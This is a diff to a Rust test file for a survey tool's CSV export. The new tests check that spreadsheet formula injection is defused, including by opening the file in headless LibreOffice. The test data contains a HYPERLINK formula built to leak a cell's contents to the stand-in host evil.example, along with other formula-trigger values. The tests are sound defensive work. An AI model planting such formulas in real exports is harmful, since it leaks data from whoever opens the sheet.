@@ -210,7 +210,7 @@ fn share_links_import_like_files_and_the_same_link_twice_is_noticed() {
     assert_eq!(preview.new.len(), 1);
     assert_eq!(preview.new[0].ratings.len(), 12);
     assert_eq!(preview.refused.len(), 2);
-    assert!(preview.refused[1].problems.to_string().contains("incomplete or has been changed"));
+    assert!(preview.refused[1].problems.to_string().contains("this link has been changed or cut short"));
 }
 
 #[test]
@@ -255,4 +255,52 @@ fn a_thousand_respondents_combine() {
     let combined = combine(&framework, &members.iter().collect::<Vec<_>>(), &no_other_versions);
     assert_eq!(combined.respondents, 1000);
     assert!(combined.statements().all(|s| s.stats.count == 1000 && s.stats.range() == Some(4.0)));
+}
+
+#[test]
+fn the_combined_csv_header_is_defused_like_every_other_cell() {
+    let mut framework = small_framework();
+    let hostile = "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Don't know\")";
+    framework.scale.dont_know = hostile.into();
+    framework.scale.not_applicable = "@SUM(1+1)".into();
+    framework.scale.levels[0].name = "+1".into();
+    let members = [member("x", &[("a1", Level(1))])];
+    let csv = combined_csv(&combine(&framework, &members.iter().collect::<Vec<_>>(), &no_other_versions));
+    let header = csv.trim_start_matches('\u{feff}').lines().next().unwrap();
+    assert!(
+        header.contains(r#","'=HYPERLINK(""http://evil.example/?leak=""&B2,""Don't know"")",'@SUM(1+1),"#),
+        "{header}"
+    );
+    assert!(header.contains(",Level 1 (+1),"), "a label inside the cell is not at its start");
+    let cells = csv::ReaderBuilder::new().has_headers(false).from_reader(header.as_bytes()).records().next();
+    let cells: Vec<String> = cells.unwrap().unwrap().iter().map(String::from).collect();
+    assert!(cells.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{cells:?}");
+}
+
+/// LibreOffice Calc, as a person would open the export: no cell of it may become a formula.
+#[cfg(not(target_arch = "wasm32"))]
+#[test]
+fn libreoffice_opens_a_hostile_combined_csv_with_no_formula() {
+    let mut framework = small_framework();
+    framework.scale.dont_know = "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Don't know\")".into();
+    let members = [member("x", &[("a1", Level(1))])];
+    let csv = combined_csv(&combine(&framework, &members.iter().collect::<Vec<_>>(), &no_other_versions));
+
+    // A folder and LibreOffice profile of its own, so parallel runs do not clash.
+    let work = std::env::temp_dir().join(format!("almanac-soffice-{}", std::process::id()));
+    std::fs::create_dir_all(&work).unwrap();
+    let source = work.join("combined.csv");
+    std::fs::write(&source, &csv).unwrap();
+    let converted = std::process::Command::new("soffice")
+        .arg(format!("-env:UserInstallation=file://{}/profile", work.display()))
+        .args(["--headless", "--convert-to", "fods", "--outdir"])
+        .arg(&work)
+        .arg(&source)
+        .output()
+        .expect("soffice runs (scripts/install.sh installs libreoffice-calc-nogui)");
+    let sheet = std::fs::read_to_string(work.join("combined.fods"));
+    let _ = std::fs::remove_dir_all(&work);
+    let sheet = sheet.unwrap_or_else(|_| panic!("soffice converted the file: {converted:?}"));
+    assert!(sheet.contains("HYPERLINK"), "the label is in the sheet, as text");
+    assert!(!sheet.contains("table:formula"), "no cell is a formula");
 }
